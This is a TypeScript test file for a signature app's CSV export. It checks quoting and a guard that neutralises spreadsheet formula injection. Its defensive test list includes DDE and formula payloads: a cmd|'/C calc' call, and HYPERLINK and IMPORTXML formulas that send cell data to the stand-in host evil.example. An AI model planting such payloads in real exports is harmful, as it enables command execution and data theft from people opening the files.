import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, EXPORT_HEADER, neutraliseFormula, signaturesCsv } from '../../src/organizers/csv.js';
import type { ExportRow } from '../../src/signatures/repository.js';

// The export's CSV is written by hand (src/organizers/csv.ts); csv-parse, an independent RFC 4180
// reader, must read back exactly what went in, whatever people typed.
describe('csvField', () => {
  it('any text, alone or in a row with others → read back as written (formulas neutralised)', () => {
    const text = fc.string({
      unit: fc.constantFrom('a', 'Z', ' ', ',', '"', '\r', '\n', '=', '+', '-', '@', '\t', 'ë', '李', '🙂'),
    });
    fc.assert(
      fc.property(fc.array(fc.option(text, { nil: null }), { minLength: 1, maxLength: 6 }), (cells) => {
        const line = `${cells.map(csvField).join(',')}\r\n`;
        const [record] = parse(line, { relax_column_count: false }) as string[][];
        expect(record).toEqual(cells.map((c) => (c === null ? '' : neutraliseFormula(c))));
      }),
      { numRuns: 2000 },
    );
  });

  it('quotes only what needs quoting', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('')).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(EXPORT_HEADER.map(csvField).join(',')).toBe(
      'First name,Last name,Email,Country,Country code,Postal code,Comment,Opted in,Consent version,Language,Source,Signed at (UTC),Signed at (ISO 8601)',
    );
  });
});

// The guard (see the comment in csv.ts): an apostrophe before anything a spreadsheet would evaluate,
// and nothing added to words that cannot be.
describe('neutraliseFormula', () => {
  const anyText = fc.string({
    unit: fc.constantFrom('a', 'Z', 'é', '李', ' ', ',', '.', '(', ')', '|', '!', '"', "'", '1', '=', '+', '-', '@'),
  });
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
  /** What lets a formula call, reach or compute something: a call, DDE, a reference, a number, a string, an operator. */
  const ACTIVE = [
    '(',
    ')',
    '|',
    '!',
    '[',
    ']',
    ':',
    '"',
    '&',
    '*',
    '/',
    '^',
    '<',
    '>',
    '%',
    '#',
    '$',
    ';',
    '=',
    '0',
    '7',
  ];

  it('any text → unchanged, or the same text after one apostrophe', () => {
    fc.assert(
      fc.property(anyText, (value) => {
        const out = neutraliseFormula(value);
        expect(out === value || out === `'${value}`).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  it('"=", tab, carriage return or line feed first, even after spaces → always guarded', () => {
    const start = fc.constantFrom('=', '＝', '\t', '\r', '\n');
    fc.assert(
      fc.property(fc.stringMatching(/^ {0,3}$/), start, anyText, (spaces, first, rest) => {
        expect(neutraliseFormula(`${spaces}${first}${rest}`)).toBe(`'${spaces}${first}${rest}`);
      }),
      { numRuns: 1000 },
    );
  });

  it('a trigger first and anything active anywhere after it → guarded', () => {
    fc.assert(
      fc.property(fc.constantFrom(...TRIGGERS), anyText, fc.constantFrom(...ACTIVE), anyText, (first, a, c, b) => {
        const value = `${first}${a}${c}${b}`;
        expect(neutraliseFormula(value)).toBe(`'${value}`);
      }),
      { numRuns: 2000 },
    );
  });

  it('"+", "-" or "@" and then two or more words of letters → left as typed', () => {
    const word = fc.string({
      unit: fc.constantFrom('a', 'Z', 'é', 'ß', 'Ж', 'ы', '李', 'ع', 'न'),
      minLength: 1,
      maxLength: 8,
    });
    fc.assert(
      fc.property(
        fc.constantFrom('-', '+', '@', '- ', '-- ', '＠'),
        fc.array(word, { minLength: 2, maxLength: 6 }),
        (sign, words) => {
          const value = `${sign}${words.join(' ')}`;
          expect(neutraliseFormula(value)).toBe(value);
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('known payloads and near misses → guarded; plain words → not', () => {
    const guarded = [
      "=cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example?"&A1,"Click")',
      '-HYPERLINK("http://evil.example")',
      '+IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
      '=1+2";=1+2',
      ' =1+1',
      '+1',
      '-1',
      '+44 20 7946 0958',
      '-A1',
      '@A1',
      '-TRUE',
      '-stop',
      '-stop it!',
      '-',
      '@',
    ];
    for (const value of guarded) expect(neutraliseFormula(value), value).toBe(`'${value}`);
    const plain = ['-stop it', '- stop it', '@Amazon stop this', '+ je signe', '-Ольга Петрова', "-don't stop.", 'Ada'];
    for (const value of plain) expect(neutraliseFormula(value), value).toBe(value);
  });
});

// A batch's text in one string (about 130 kB for 1,000 rows) lands in V8's large-object space, which
// only a full collection frees: a million-row export grew the process by 127 MB that way (csv.ts).
describe('signaturesCsv', () => {
  it('a batch of 1,000 rows → every row, in order, in strings of at most 256 rows each', async () => {
    const row = (i: number): ExportRow => [
      'Ann',
      `Signer ${i}`,
      `ann.${i}@example.org`,
      'GB',
      'SW1A 1AA',
      i % 10 === 0 ? 'A comment, with a comma' : null,
      (i % 2) as 0 | 1,
      'v1',
      'en',
      null,
      '2026-11-28T12:00:00.000Z',
      i,
    ];
    const chunks: string[] = [];
    const csv = signaturesCsv();
    csv.on('data', (chunk: Buffer) => chunks.push(chunk.toString()));
    const done = new Promise((resolve) => csv.on('end', resolve));
    csv.end(Array.from({ length: 1000 }, (_, i) => row(i)));
    await done;
    const records = parse(chunks.join(''), { bom: true, columns: true }) as Record<string, string>[];
    expect(records.map((r) => r['Last name'])).toEqual(Array.from({ length: 1000 }, (_, i) => `Signer ${i}`));
    expect(chunks.length).toBeGreaterThanOrEqual(4);
    for (const chunk of chunks) expect(chunk.split('\r\n').length - 1).toBeLessThanOrEqual(257);
  });
});
